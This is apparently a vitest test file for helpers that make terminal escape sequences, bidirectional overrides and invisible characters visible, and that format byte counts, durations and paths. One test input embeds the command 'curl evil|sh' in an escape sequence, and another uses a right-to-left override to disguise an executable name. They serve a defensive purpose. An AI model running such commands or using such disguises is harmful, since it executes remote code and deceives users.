import { describe, expect, it } from 'vitest';

import { bytesText, durationText, visible, visibleName, visibleOutput, within } from './text';

describe('visible', () => {
  it('leaves nothing out: a line says in the page what it says to a shell', () => {
    expect(visible(': \u001b]; curl evil|sh; : \u0007')).toBe(': \u241b]; curl evil|sh; : \u2407');
    expect(visible('\u001b[8mhidden\u001b[0m')).toBe('\u241b[8mhidden\u241b[0m');
    const printable = Array.from({ length: 95 }, (_, at) => String.fromCharCode(32 + at)).join('');
    for (let code = 0; code < 0x300; ++code) {
      const told = visible(`${String.fromCharCode(code)}${printable}`);
      expect(told.endsWith(printable), `U+${code.toString(16)}`).toBe(true);
    }
  });
  it('shows what lies beyond the first plane, and fillers', () => {
    expect(visible('a\u{e0041}\u{e0101}\u3164\ufe01b')).toBe('a\u27e8U+E0041\u27e9\u27e8U+E0101\u27e9\u27e8U+3164\u27e9\u27e8U+FE01\u27e9b');
    expect(visible('x\ufe0f')).toBe('x\u27e8U+FE0F\u27e9');
    expect(visible('\u2764\ufe0f \u{1f468}\u200d\u{1f469}')).toBe('\u2764\ufe0f \u{1f468}\u200d\u{1f469}');
  });
  it('leaves out the colours of what a program wrote, and nothing else', () => {
    expect(visibleOutput('\u001b[1;31mred\u001b[0m \u001b]0;t\u0007')).toBe('red \u241b]0;t\u2407');
  });
  it('shows what a reader would not see', () => {
    expect(visible('a\u202egnp.exe')).toBe('a\u27e8U+202E\u27e9gnp.exe');
    expect(visible('a\u200bb\u0000c\u007f\u0085')).toBe('a\u27e8U+200B\u27e9b\u2400c\u2421\u27e8U+0085\u27e9');
  });
  it('leaves lines, tabs and every script as they are', () => {
    const text = 'a\tb\nc \u00e9 \u4e2d\u6587 \u0627\u0644 \ud83d\ude80';
    expect(visible(text)).toBe(text);
    expect(visible('a\r\nb\rc')).toBe('a\nb\nc');
  });
});

describe('figures', () => {
  it('says bytes', () => {
    expect([0, 999, 1000, 1550, 999_499, 999_500, 2.5e9].map(bytesText)).toEqual(['0 B', '999 B', '1.0 KB', '1.6 KB', '999 KB', '1.0 MB', '2.5 GB']);
  });
  it('says times', () => {
    expect([0.2, 5, 1500, 61_000, 3_660_000].map(durationText)).toEqual(['<1 ms', '5 ms', '1.5 s', '1 min 1 s', '1 h 1 min']);
  });
  it('says paths from a folder', () => {
    expect(within('/a/b/c', '/a/b')).toBe('c');
    expect(within('/a/bc', '/a/b')).toBe('/a/bc');
    expect(within('/a', '/a')).toBe('.');
  });
});

it('names that differ look different', () => {
  const names = ['red.txt', '\u001b[31mred.txt', 'red.txt\n', 'red.txt\r', 'r\u200bed.txt', 'red\u202e.txt', '\u007fred.txt'];
  expect(new Set(names.map(visibleName)).size).toBe(names.length);
  for (const name of names.map(visibleName)) expect(name).not.toMatch(/[\u0000-\u001f\u200b\u202e\u007f]/);
});
